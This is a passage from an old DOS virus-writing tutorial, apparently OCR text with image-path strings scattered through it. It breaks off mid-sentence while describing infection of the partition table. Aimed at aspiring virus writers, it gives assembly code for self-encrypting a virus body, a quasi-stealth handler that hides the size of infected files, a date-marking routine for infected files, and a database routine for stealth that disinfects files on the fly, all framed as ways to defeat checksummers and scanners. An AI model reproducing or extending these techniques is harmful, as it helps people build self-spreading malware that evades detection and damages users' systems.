  6. Proceed as normal.This is a very general and very simple overview of the BSV; you can add stealth, encryption and other such tricks if you wish.


What differentiates viruses from each other? Tricks of course. Small additions which make each virus unique and less boring. I could churn out a million viruses which do exactly the same thing but in a different fashion, but where would it get me? Where would it get you? Be original. Be creative. (some of you may have trouble with this, but you can at least TRY.)

More often than not viruses employ only small tricks,such as wiping hard drives and displaying messages like "die fucking lamer" (this is not original. I also despise destructive viruses. It gives us a bad name, McFuck more $$$ and a higher likelihood of law amendments.)

Have you noticed that the marjority of today's Common viruses exhibit some sort of original or innovative behaviour, whether it be small size (eg. Ontario virus, infects COM, EXE and is 512 bytes!), beeps, stealth, all that. Don't just be lame and release a boring virus. How about making the timer tick backwards?


Self-encryption is fairly easy. Differing mutations are somewhat harder. I'm only going to teach you the former; I'm not giving away any real secrets. Again, work it out for yourself.

The principles governing self-encryptions are simple. When infecting a file, copy your virus to another block in memory, but on each byte, perform some arithmetical transformation. To decrypt, perform the opposite of this function. eg.

MUL DIV ; I don't recommend MUL or DIV though
NOT NOT ; this may be NEG on some assemblers

(Note! You CANNOT use the SHL or SHR functions because you lose any bits which fall off the end!)

Like solving an equation, each step must be performed in the opposite way it wasfirst executed. Let's create a routine which will encrypt a number in AL...

  encryption:     dec al                  ; (fragment of code)
                  not al
                  rol al, 1
                  rol al, 1
                  xor al, 4ch

to decrypt this, we must, as in an equation, perform it in the opposite direction and using the opposite function. (refer to table above). To decrypt after encryption by the above routine:decryption:     xor al, 4ch
                  ror al, 1
                  ror al, 1
                  not al
                  inc al

But how would we implement this in a virus?

Simple. Allocate twice as much memory as you would if you didn't have encryption, so we will have room to encrypt our virus. Then, just before we go write the virus to the file, we copy our virus to the upper part of the allocated memory and run the encryption key over it. NOTE! You must be careful which parts of the virus you encrypt, otherwise it will hang! You must not encrypt the decryption algorithm, nor the entry point! (if the entry point is not the decryption routine)

So it would be like this:

          COM entry point:  (restore first 3 bytes of file)
          EXE entry point:  call decrypt
          Main body of virus (encrypted)
          decrypt:        (decrypt body of virus)and your virus would run as per usual.


(Note: the decryption key should be at the end for more reasons than are obvious. One reason is that when you come to creating your own self-mutating virus with a changing encryption algorithm, you can just slot it in at the end with no fear of it overwriting any code. You can then make your encryption key as long as is necesary.)


The aspiring virus writer, and indeed many experienced virus writers, look at viruses like 4096, Fish#6 and Whale and say "Holy Shit... I'll never be able to do that" after noting their size. But the reality is that if you have your head screwed on and are competent enough, you can write your own stealth routines (you'll have to, I'm not giving you any code).

My defintion of Quasi-Stealth is a virus's ability to hidethe increase in file size of the files they have infected. I have done a few viruses which do this, the only onecurrently enjoying any success is X-Fungus; the others have not been (and will not be) released. I do not openly encourage using this method because there are only limited ways of markingfiles infected in the directory entry itself. If more than one virus uses the same technique and they meet each other, they will fuck up.

Full-blooded Stealth ability is the abillity to disinfect files on-the-fly, as they are opened. This way, you can defeat ANY sort of CRC checker, checksummer, signature scanner etc. because, quite simply, the virus won't be there! The code to employ this took me about 600 bytes, so it's not that much of a sacrifice to make.


The principles behind this ability are also very simple. To understand, first we must look at how DOS performs a DIR command.

The user types the DIR command. The command interpreter does its job of interpreting, and drives the kernel to do a number of tasks.

It goes in this pattern:

  1. find a file which matches filespec (fn 11h or 12h)
  2. interpret and display/skip the information:
    1. file size
    2. date (*)
    3. time (*)
  3. loop to 1 if there are more files

'*' denotes data which we use in quasi-stealth

It's not exactly like that, but it's good enough for our analysis.

There are various methods to developing a workable quasi-stealth routine.

  1. Adding 100 years to the date
  2. Putting a value more than 60 seconds into the timeYour Int 21h handler would have to look out for any of these conditions, and subtract the virus's length from the "file size" category accordingly.

Here is the routine I have used for my Quasi-Stealth viruses (I prefer the method of adding 100 years to the date. This is not noticeable on the directory listing).

(Note that for all routines, you must call function_call to execute the function so there's something there to check, hence the first line of code. You must also have a handler for the DTA change function, to keep track of where the DTA is. This is where DOS builds an FCB.)fcb_work:       call function_call
                  push ax
                  push cx
                  cmp al, 0
                  jne fcb_fnot_found
                  push si
                  push ds
                  mov si, word ptr cs:[dta_save]
                  mov ds, word ptr cs:[dta_save+2]
                  cmp al, 0ffh
                  jne fcb_continue
                  add si, 7

  fcb_continue:   add si, 18h             ; trespassing on DOS reserved space!
                  mov cx, 9
                  shr ax, cl              ; will clear all non-important bits
                  cmp ax, 100             ; (100 years)
                  jge fcb_fix
                  pop ds
                  pop si

  fcb_fnot_found: pop cx
                  pop ax

  fcb_fix:        inc si
                  inc si
                  sub word ptr [si], v_len
                  pop ds
                  pop si
                  jmp fcb_fnot_found

The infection routine must be changed so that when the file is infected, it adds 100 years to the date before resetting it. The following code is added just after the old date & time stamps have been pulled back off the stack. The flag "already_inf" makes sure that if the file was already infected that another 100 years isn't added on (you must provide your own checking for infection).

  fix_date:       cmp byte ptrcs:[already_inf], 0
                  jne continue
                  add dh, 0c8h            ; add 100 years to DX (date)
  continue:       [...]

That's quite simple, agreed?

Disinfecting on-the-fly

This should not be attempted by the light-hearted. It requires a major overhaul of the viral structure. Becuase of this major overhaul, I will not include the exact code on how to do it - you'll have to work that out for yourself. However, I'll give you some pretty explicit details on how the thing should operate.

Note that this is only on way of doing it; no doubt there are several other ways of doing it, but all must follow this general pattern.

  i21h handler:   open?
                  jne i21_2
                  set up base (jmp, not call)
  i21_2:          extended open?jne i21_3
                  push dx
                  mov dx, si
                  set up base     ; note! you must tailor your stealth for
                                  ; this call, since DX will be on stack!
  i21_3:          close?
                  jne i21_4
                  close base & reinfect
  i21_4:          [...]

These are the fundamentals of the stealth capability - when to disinfect. On all calls to open the file, add the name & handle to a "database" in free memory after the end of your virus. When it comes to close-time, simply scan your database for the handle and re-infect its corresponding file, and erase that entry from the database. How simple can it get? (See? It's a lot easier in theory than most people imagine!)

The problem enters here: how the fuck do I write a database in ASM?

Easy. First of all, you must figure out the format which the database will be in. I worked one out like this:

+0 byte availability flag (00 if in use, 0ffh if last entry)
+1 word file handle
+3 word relative offset of next entry
+5 x ASCIIZ path/filename of file
+y byte avail... [etc]

A word of caution: you must get the path of the file manually because the program may change directories, and then you'd be fucked.

OK, I'll be nice.I'll give you some code, how to create an entry in your database. (SI points to the last entry in your database. The file handle has been pushed onto the stack. DS:DX is filename.)

  add_base:       mov di, si
                  xor al, al
                  stosb                   ; clear availability flag
                  pop axstosw                   ;store file handle
                  xor ax, ax
                  stosw                   ; clear relative offset counter
                  dec si
                  dec si                  ; move SI to beginning of counter
                  mov bx, si              ; and put it in BX
                  mov si, dx              ; DS:SI now points to filename
  abloop1:        lodsb                   ; load byte from DS:SI
                  stosb                   ; store the byte to ES:DI
                  xchg si, bx
                  inc byte ptr cs:[si]    ; INC relative offset
                  xchg si, bx
                  or al, al
                  jnz abloop1
                  mov al, 0ffh            ; mark next entry as Empty

That's all that's involved in actually creating a new entry. You must make the effort to make the rest of the code. (This text file is to encourage new developments, not to give you something to copy straight from).

Now, back to this major overhaul bit. This is where the modularity of your programming comes into play. Small viruses are the results of well-structured and well-thought-out programming. You should know enough about programming to be able to modify your virus enough to accomodate Stealth.

You must be able to load up the original information, in its EXACT state, in order to be able to write it back to the original file. To do this you must edit your infection routine, so that it willsave the information somewhere, preferrably at the end (or just before the decryption algorythm, if you have one running. This can be handy). You must be able to truncate your virus off the end of the file. Simple? (That's all there is to fixing up a file into its normal state).

OK. Now, you've read through that, and it comes to you: What if the thing's encrypted??

Never fear. Just before you truncate the virus off the end of the file, read it into memory above your code. Read the encryption algorythm from the end of the virus (you may not need to if you haven't implemented mutating self-encryption) and decrypt the virus. Then take out the bits which you saved, and write them as per usual.



This is hard to implement if you work your routines yourself, instead of ripping someone else's off. I came up with the idea of how to do it a while back, but was unsure of the initial values of vectors and stuff upon bootup. So when I obtained a copy of Tequila, it simply confirmed my thoughts and I was able to put it into code.

As with most virus tricks, the principle is dead simple. Insert a piece of code into the partitiontable which will load up the virus into memory when you boot. Atthis point you can intercept interrupts 8 (timer), 9 (keyboard), 13h (disk services) and 1ch (user timer), or in fact, any other interrupt you wish EXCEPT THE DOS INTERRUPTS! (I have not bothered with 